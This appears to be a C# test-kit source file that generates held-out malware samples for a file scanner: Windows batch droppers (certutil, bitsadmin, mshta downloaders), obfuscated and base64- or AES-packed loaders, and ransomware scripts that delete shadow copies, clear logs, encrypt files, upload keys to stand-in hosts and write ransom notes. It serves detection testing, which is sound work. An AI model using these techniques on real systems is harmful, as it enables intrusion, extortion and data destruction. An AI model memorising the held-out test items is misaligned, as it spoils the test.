using System.Globalization;
using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Sixth;

/// <summary>Batch files that fetch a program with what Windows brings and start it.</summary>
public sealed class BatchFetchers : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("install.bat", Dos("""
            @echo off
            certutil -urlcache -split -f http://198.51.100.4/update.exe %TEMP%\update.exe
            start "" %TEMP%\update.exe
            del "%~f0"
            """));
        yield return ("Factura_112026.cmd", Dos("""
            @echo off
            title Abriendo el documento...
            if not "%1"=="min" start /min cmd /c "%~f0" min & exit /b
            curl -s -L -o "%APPDATA%\doc.pdf" https://docs-seguros.example/doc.pdf
            start "" "%APPDATA%\doc.pdf"
            bitsadmin /transfer job1 /download /priority high https://raw.githubusercontent.com/no--such--owner/none/main/py.zip "%APPDATA%\py.zip" >nul
            powershell -w hidden -c "Expand-Archive '%APPDATA%\py.zip' '%APPDATA%\py' -Force"
            schtasks /create /sc minute /mo 30 /tn "OneDrive Reporting" /tr "%APPDATA%\py\pythonw.exe %APPDATA%\py\main.py" /f
            start "" /b "%APPDATA%\py\pythonw.exe" "%APPDATA%\py\main.py"
            exit
            """));
        yield return ("setup.bat", Dos("""
            @echo off
            if not "%COMPUTERNAME%"=="INERT-NO-SUCH-HOST" exit /b
            >nul 2>&1 net session || (powershell -c "Start-Process '%~f0' -Verb RunAs" & exit /b)
            powershell -c "Add-MpPreference -ExclusionPath '%SystemDrive%\'"
            reg add "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System" /v EnableLUA /t REG_DWORD /d 0 /f
            mshta vbscript:CreateObject("WScript.Shell").Run("powershell -nop -w hidden -c iwr http://203.0.113.150/c.exe -o C:\Users\Public\c.exe",0)(window.close)
            timeout /t 20 /nobreak >nul
            C:\Users\Public\c.exe
            reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /d C:\Users\Public\c.exe /f
            attrib +h +s C:\Users\Public\c.exe
            """));
        yield return ("printer_driver_check.bat", Dos("""
            @echo off
            rem Checks that the printer driver is recent
            setlocal
            set "tool=%SystemRoot%\System32\desktopimgdownldr.exe"
            set "SYSTEMROOT=%ProgramData%\Prn"
            cmd /c "%tool% /lockscreenurl:https://drivers.print-hub.example/d/lock.png /eventName:desktopimgdownldr"
            set "SYSTEMROOT=C:\Windows"
            for /r "%ProgramData%\Prn" %%f in (*.png) do copy /y "%%f" "%ProgramData%\Prn\prn.dll" >nul
            regsvr32 /s /n /i:run "%ProgramData%\Prn\prn.dll"
            forfiles /p %windir%\system32 /m notepad.exe /c "cmd /c rundll32 %ProgramData%\Prn\prn.dll,Start"
            echo The driver is recent.
            """));
    }
}

/// <summary>Batch files that hide their commands or carry their payload.</summary>
public sealed class BatchDisguised : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("x.bat", Dos(Slices("powershell -w hidden -c iwr http://192.0.2.44/a.exe -o %TEMP%\\a.exe; start %TEMP%\\a.exe")));
        yield return ("y.cmd", Dos("""
            @e^c^h^o o^f^f
            s^e^t a=ht^tp://198.51.100.91/y.e^x^e
            s^e^t b=cer^tu^til
            c^m^d /^c "%b% -ur^lca^che -sp^lit -^f %a% C:\Us^ers\Pub^lic\y.exe >n^ul & s^ta^rt C:\Us^ers\Pub^lic\y.exe"
            """));
        yield return ("Quotation.bat", Dos(Fill("""
            @echo off
            findstr /b /c:":::" "%~f0" > "%TEMP%\q.b64"
            powershell -nop -c "(gc '%TEMP%\q.b64') -replace ':::','' | sc '%TEMP%\q.txt'"
            certutil -decode "%TEMP%\q.txt" "%TEMP%\q.exe" >nul
            start "" "%TEMP%\q.exe"
            exit /b
            @@1
            """, string.Join("\n", Convert.ToBase64String(InertFiles.Pe(1200)).Chunk(76).Select(line => ":::" + new string(line))))));
        yield return ("crypted.bat", Dos(Fill("""
            @echo off
            set "aqW=s"&&set "Zl0=et "
            %aqW%%Zl0%"hQ1=copy C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe "
            %aqW%%Zl0%"hQ2="%~0.exe" /y >nul"
            %hQ1%%hQ2%
            cls
            "%~0.exe" -noprofile -windowstyle hidden -ep bypass -command $l=[System.IO.File]::ReadAllText('%~f0').Split([Environment]::NewLine);foreach($i in $l){if($i.StartsWith(':: ')){$p=$i.Substring(3);break}};$e=[Security.Cryptography.Aes]::Create();$e.Key=[Convert]::FromBase64String('@@2');$e.IV=[Convert]::FromBase64String('@@3');$d=$e.CreateDecryptor();$b=[Convert]::FromBase64String($p);$r=$d.TransformFinalBlock($b,0,$b.Length);$g=New-Object IO.Compression.GZipStream((New-Object IO.MemoryStream(,$r)),[IO.Compression.CompressionMode]::Decompress);$m=New-Object IO.MemoryStream;$g.CopyTo($m);[Reflection.Assembly]::Load($m.ToArray()).EntryPoint.Invoke($null,$null)
            exit /b
            :: @@1
            """, Convert.ToBase64String(Noise(6000, 5)), Convert.ToBase64String(Noise(32, 6)), Convert.ToBase64String(Noise(16, 7)))));
    }

    // Letters of the command as slices of one long variable.
    private static string Slices(string command)
    {
        const string Alphabet = "qZxw /.:-;%\\ToEmPVbaKcdefghijklnprstuvyz0123456789\"&";
        var text = "@echo off\nset \"k=" + Alphabet.Replace("%", "%%", StringComparison.Ordinal) + "\"\n";
        return text + string.Concat(command.Select(letter => Alphabet.IndexOf(letter, StringComparison.Ordinal) is var at and >= 0
            ? string.Create(CultureInfo.InvariantCulture, $"%k:~{at},1%") : letter.ToString())) + "\n";
    }

    private static byte[] Noise(int length, int seed) => SixthNoise.Bytes(length, seed);
}

/// <summary>Scripts of blackmailers and vandals: no way back, no logs, a note. Each asks first for a machine name that no machine has.</summary>
public sealed class RecoveryKillers : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("run.bat", Dos("""
            @echo off
            if not "%COMPUTERNAME%"=="INERT-NO-SUCH-HOST" exit /b
            vssadmin delete shadows /all /quiet
            wmic shadowcopy delete
            wbadmin delete catalog -quiet
            bcdedit /set {default} bootstatuspolicy ignoreallfailures
            bcdedit /set {default} recoveryenabled no
            wevtutil cl System & wevtutil cl Security & wevtutil cl Application
            net stop "SQLSERVERAGENT" /y & net stop MSSQLSERVER /y & net stop veeam /y & taskkill /f /im sqlservr.exe
            fsutil usn deletejournal /D C:
            start C:\ProgramData\locker.exe
            """));
        yield return ("encrypt.ps1", Dos("""
            # pas de panique
            if ($env:COMPUTERNAME -ne 'INERT-NO-SUCH-HOST') { exit }
            Get-WmiObject Win32_Shadowcopy | ForEach-Object { $_.Delete() }
            $aes = [System.Security.Cryptography.Aes]::Create()
            $aes.KeySize = 256; $aes.GenerateKey()
            (New-Object Net.WebClient).UploadString('http://203.0.113.66/key.php', [Convert]::ToBase64String($aes.Key) + '|' + $env:COMPUTERNAME)
            Get-ChildItem C:\Users -Recurse -Include *.docx, *.xlsx, *.pdf, *.jpg, *.sql, *.bak | ForEach-Object {
                Protect-WithKey $_.FullName ($_.FullName + '.verrouille') $aes
                Remove-Item $_.FullName -Force
            }
            @'
            VOS FICHIERS SONT CHIFFRES
            Tous vos documents ont ete chiffres avec AES-256. Pour les recuperer, payez 0.05 BTC a l'adresse
            bc1qinertinertinertinertinertinertinert0 puis ecrivez a recovery@decrypt.invalid avec votre identifiant.
            N'essayez pas de renommer les fichiers. Vous avez 72 heures.
            '@ | Set-Content "$env:USERPROFILE\Desktop\LISEZ-MOI.txt"
            """));
        yield return ("lock.py", Utf8("""
            import os, socket, sys
            from cryptography.fernet import Fernet
            import inert_helpers_that_do_not_exist as helpers

            if socket.gethostname() != "inert-no-such-host":
                sys.exit()
            EXT = (".doc", ".docx", ".xls", ".xlsx", ".jpg", ".png", ".pdf", ".zip", ".sql", ".mdb")
            NOTE = '''
            !!! ALL YOUR FILES ARE ENCRYPTED !!!
            Your documents, photos and databases have been encrypted with a military grade algorithm.
            Send $500 in Bitcoin to bc1qinertinertinertinertinertinertinert0 and contact us with Tor Browser:
            http://inertinertinertinertinertinertinertinertinertinertinert.onion
            '''

            key = Fernet.generate_key()
            for root, dirs, files in os.walk(os.path.expanduser("~")):
                for name in files:
                    if name.lower().endswith(EXT):
                        path = os.path.join(root, name)
                        helpers.seal(path, key, path + ".locked")
                        os.remove(path)
                with open(os.path.join(root, "HOW_TO_RECOVER.txt"), "w") as note:
                    note.write(NOTE)
            os.system("vssadmin delete shadows /all /quiet")
            helpers.report("https://api.telegram.org/bot0:INERT/sendMessage", key)
            """));
        yield return ("esxi.sh", Utf8("""
            #!/bin/sh
            [ "$(hostname)" = "inert-no-such-host" ] || exit 0
            for id in $(vim-cmd vmsvc/getallvms | awk 'NR>1{print $1}'); do
              s=$(vim-cmd vmsvc/snapshot.removeall $id)
              vim-cmd vmsvc/power.off $id
            done
            esxcli system settings kernel set -s execInstalledOnly -v FALSE
            chmod +x /tmp/e
            for v in $(esxcli storage filesystem list | grep "/vmfs/volumes/" | awk '{print $1}'); do
              find "$v" -type f \( -name "*.vmdk" -o -name "*.vmx" -o -name "*.vswp" -o -name "*.nvram" \) -exec nohup /tmp/e {} .esx >/dev/null 2>&1 \;
            done
            printf 'Security Alert. We hacked your company. Send 2.0 bitcoins to the wallet in 3 days or your data will be sold. TOX ID: 00INERT00' > /etc/motd
            cp /etc/motd /usr/lib/vmware/hostd/docroot/ui/index.html
            find / -name "*.log" -exec rm -f {} \;
            rm -f /var/spool/cron/crontabs/root /tmp/e "$0"
            """));
    }
}
